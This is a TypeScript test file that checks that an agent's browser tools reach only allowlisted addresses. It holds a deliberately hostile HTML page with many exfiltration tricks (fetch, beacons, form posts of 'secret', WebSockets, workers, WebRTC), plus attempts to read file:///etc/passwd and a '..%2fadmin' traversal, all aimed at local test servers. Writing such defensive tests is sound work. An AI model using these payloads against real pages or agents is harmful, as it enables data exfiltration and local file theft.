import { mkdtemp, rm } from 'node:fs/promises';
import http from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo, Socket } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { BROWSER_TEST_TIMEOUT_MS, chromiumAvailable, recordingBrowser } from '../helpers/chromium';
import { useTestGate } from '../helpers/gate-harness';
import { serve, type TestServer } from '../helpers/http-test-server';

/**
 * The browser tools reach only http.allow (SPEC §5 browser, §8). A second listener on another port
 * stands for "anywhere else": an allowed page points at it in every way a page can, and it must
 * count ZERO TCP connections (HTTP and WebSocket upgrades alike), while the allowed page still
 * renders. Real Chromium, real servers on 127.0.0.1.
 */
const open = useTestGate();
const servers: TestServer[] = [];
const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const s of servers.splice(0)) await s.close();
  for (const c of closers.splice(0)) await c();
});

async function server(handler: Parameters<typeof serve>[0]): Promise<TestServer> {
  const s = await serve(handler);
  servers.push(s);
  return s;
}

/** The outside listener: counts every TCP connection, answers HTTP, accepts WebSocket upgrades. */
async function outside(): Promise<{ origin: string; port: number; connections(): number }> {
  let connections = 0;
  const sockets = new Set<Socket>();
  const srv = http.createServer((_req, res) => res.end('exfiltrated'));
  srv.on('connection', (socket: Socket) => {
    connections++;
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  srv.on('upgrade', (_req, socket: Socket) => socket.end('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'));
  await new Promise<void>((resolve) => srv.listen(0, '127.0.0.1', () => resolve()));
  const port = (srv.address() as AddressInfo).port;
  closers.push(
    () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        srv.close(() => resolve());
      }),
  );
  return { origin: `http://127.0.0.1:${port}`, port, connections: () => connections };
}

/** An allowed page that tries every way a page has to reach `other`. */
function hostilePage(other: string, otherPort: number): string {
  const ws = `ws://127.0.0.1:${otherPort}`;
  return `<!doctype html><html><head><title>허용된 페이지</title>
<link rel="preconnect" href="${other}"><link rel="dns-prefetch" href="${other}"><link rel="prefetch" href="${other}/prefetch">
<link rel="stylesheet" href="${other}/style.css"><script src="${other}/script.js"></script>
<style>body { background: url('${other}/bg.png'); } @font-face { font-family: x; src: url('${other}/font.woff'); }</style>
</head><body><h1>안전한 본문</h1>
<img src="${other}/pixel.png"><img src="/intra/redirect-out">
<iframe src="${other}/frame"></iframe>
<video src="${other}/clip.mp4" autoplay muted></video>
<form id="f" action="${other}/collect" method="post" target="sink"><input name="d" value="secret"></form><iframe name="sink"></iframe>
<script>
  fetch('${other}/fetch?d=1').catch(() => {});
  fetch('${other}/no-cors', { mode: 'no-cors' }).catch(() => {});
  const x = new XMLHttpRequest(); x.open('GET', '${other}/xhr'); x.send();
  navigator.sendBeacon('${other}/beacon', 'secret');
  try { new WebSocket('${ws}/socket'); } catch (e) {}
  try { new EventSource('${other}/events'); } catch (e) {}
  new Worker(URL.createObjectURL(new Blob(["try { new WebSocket('${ws}/from-worker'); } catch (e) {} fetch('${other}/from-worker').catch(() => {});"], { type: 'text/javascript' })));
  try { navigator.serviceWorker.register('/intra/sw.js').catch(() => {}); } catch (e) {}
  window.open('${other}/popup');
  document.getElementById('f').submit();
  try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${otherPort}' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}
  document.body.insertAdjacentHTML('beforeend', '<p id="done">스크립트 끝</p>');
</script></body></html>`;
}

describe.skipIf(!chromiumAvailable())('browser tools: only the allowlist is reached', { timeout: BROWSER_TEST_TIMEOUT_MS }, () => {
  it('an allowed page that points everywhere else: zero connections outside, the blocked requests counted, the page still read', async () => {
    const other = await outside();
    const site = await server((req, res) => {
      if (req.path === '/intra/redirect-out') {
        res.writeHead(302, { location: `${other.origin}/redirected-image.png` });
        res.end();
        return;
      }
      if (req.path === '/intra/sw.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        res.end(`self.addEventListener('fetch', () => {}); fetch('${other.origin}/from-sw').catch(() => {});`);
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(hostilePage(other.origin, other.port));
    });
    const g = await open({ policy: { http: { allow: [`${site.origin}/intra/`] } }, lang: 'ko' });
    const r = await g.call('browser.open', { url: `${site.origin}/intra/page` });
    expect(r.outcome).toBe('ok');
    expect(r.text).toContain('# 안전한 본문');
    expect(r.text).toContain('스크립트 끝');
    expect(other.connections()).toBe(0);
    const details = r.details as { blocked: number; blockedOrigins: string[] };
    // img, iframe, script, stylesheet, fetch ×2, XHR, beacon, WebSocket, the redirect's target … at the least.
    expect(details.blocked).toBeGreaterThanOrEqual(8);
    expect(details.blockedOrigins).toContain(other.origin);
    expect(r.text).toContain(`허용 목록 밖의 요청 ${details.blocked}개를 막았습니다`);
    // The allowed server saw its page and the redirecting image, never a request for the outside.
    expect(site.requests.every((q) => q.path.startsWith('/intra/'))).toBe(true);
  });

  it('the screenshot of the same page reaches nothing outside either', async () => {
    const other = await outside();
    const site = await server((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(hostilePage(other.origin, other.port));
    });
    const g = await open({ policy: { http: { allow: [`${site.origin}/intra/`] } }, lang: 'en' });
    const r = await g.call('browser.screenshot', { url: `${site.origin}/intra/page`, path: 'shot.png', fullPage: true });
    expect(r.outcome).toBe('ok');
    expect(other.connections()).toBe(0);
    expect(r.text).toMatch(/Blocked \d+ requests outside the allowlist/);
  });

  it('a page cannot show local files or browser pages: file:, data:, chrome: and a move to another host come to nothing', async () => {
    const other = await outside();
    const site = await server((req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      if (req.path === '/intra/move') {
        res.end(`<title>옮기기</title><p>여기 글</p><script>location.href = '${other.origin}/moved';</script>`);
        return;
      }
      res.end(`<title>로컬</title><p>본문</p>
<iframe src="file:///etc/passwd"></iframe><iframe src="chrome://version"></iframe><img src="file:///etc/hostname">
<script>
  try { fetch('file:///etc/passwd').then((r) => r.text()).then((t) => document.body.insertAdjacentText('beforeend', t)).catch(() => {}); } catch (e) {}
  setTimeout(() => { location.href = 'file:///etc/passwd'; }, 0);
  setTimeout(() => { location.href = 'data:text/html,<p>data page</p>'; }, 10);
  setTimeout(() => { location.href = 'chrome://settings'; }, 20);
</script>`);
    });
    const g = await open({ policy: { http: { allow: [`${site.origin}/intra/`] } }, lang: 'en' });
    const r = await g.call('browser.open', { url: `${site.origin}/intra/local` });
    expect(r.outcome).toBe('ok');
    expect(r.text).toContain('본문');
    expect(r.text).not.toMatch(/root:|data page|Chromium|Settings/);
    // A page that moves itself elsewhere: the move is blocked (and counted); nothing outside is shown or reached.
    const moved = await g.call('browser.open', { url: `${site.origin}/intra/move` });
    expect(moved.outcome).toBe('refused');
    expect(moved.text).toContain(`The page tried to move to an address outside the allowlist (${other.origin}/moved)`);
    expect(moved.text).not.toContain('exfiltrated');
    expect(other.connections()).toBe(0);
  });

  it('a page that redirects outside the allowlist is refused with a clear message, and the target gets nothing', async () => {
    const other = await outside();
    const site = await server((_req, res) => {
      res.writeHead(302, { location: `${other.origin}/login?next=intranet` });
      res.end();
    });
    const g = await open({ policy: { http: { allow: [`${site.origin}/intra/`] } }, lang: 'en' });
    const r = await g.call('browser.open', { url: `${site.origin}/intra/start` });
    expect(r.outcome).toBe('refused');
    expect(r.text).toContain(`${site.origin}/intra/start redirected to ${other.origin}/login?next=intranet, which is not allowed`);
    expect(r.text).toContain('nothing was sent there');
    expect(other.connections()).toBe(0);
  });

  it('an allowed redirect inside the allowlist is followed, and the page reads as the target', async () => {
    const site = await server((req, res) => {
      if (req.path === '/intra/old') {
        res.writeHead(301, { location: '/intra/new' });
        res.end();
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end('<title>새 주소</title><p>옮겨진 공지</p><img src="logo.png">');
    });
    const g = await open({ policy: { http: { allow: [`${site.origin}/intra/`] } }, lang: 'ko' });
    const r = await g.call('browser.open', { url: `${site.origin}/intra/old` });
    expect(r.outcome).toBe('ok');
    expect(r.text).toContain(`${site.origin}/intra/new`);
    expect(r.text).toContain('옮겨진 공지');
    // The relative image resolved against the target's address.
    expect(site.requests.map((q) => q.path)).toContain('/intra/logo.png');
  });

  it('a URL outside the allowlist (or another scheme) is refused before anyone is asked and before any browser starts', async () => {
    const other = await outside();
    const site = await server((_req, res) => res.end('<p>ok</p>'));
    const dir = await mkdtemp(join(tmpdir(), 'baram-browser-recorder-'));
    closers.push(() => rm(dir, { recursive: true, force: true }));
    const recorder = await recordingBrowser(dir);
    const g = await open({ policy: { http: { allow: [`${site.origin}/intra/`] }, browser: { executablePath: recorder.path } }, lang: 'en' });
    for (const url of [`${other.origin}/intra/page`, `${site.origin}/admin`, 'file:///etc/passwd', `data:text/html,<p>x</p>`, `${site.origin}/intra/..%2fadmin`]) {
      const r = await g.call('browser.open', { url });
      // The permission layer denies an ambiguous path itself (rule ambiguous-url); the rest the precheck refuses.
      expect(['refused', 'denied'], url).toContain(r.outcome);
      const s = await g.call('browser.screenshot', { url, path: 'x.png' });
      expect(['refused', 'denied'], url).toContain(s.outcome);
    }
    expect(g.approvals).toHaveLength(0);
    expect(await recorder.starts()).toHaveLength(0);
    expect(other.connections()).toBe(0);
    expect(site.requests).toHaveLength(0);
    // Positive control: the same recorder does start for an allowed URL.
    const ok = await g.call('browser.open', { url: `${site.origin}/intra/page` });
    expect(ok.outcome).toBe('ok');
    expect(await recorder.starts()).toHaveLength(1);
  });
});
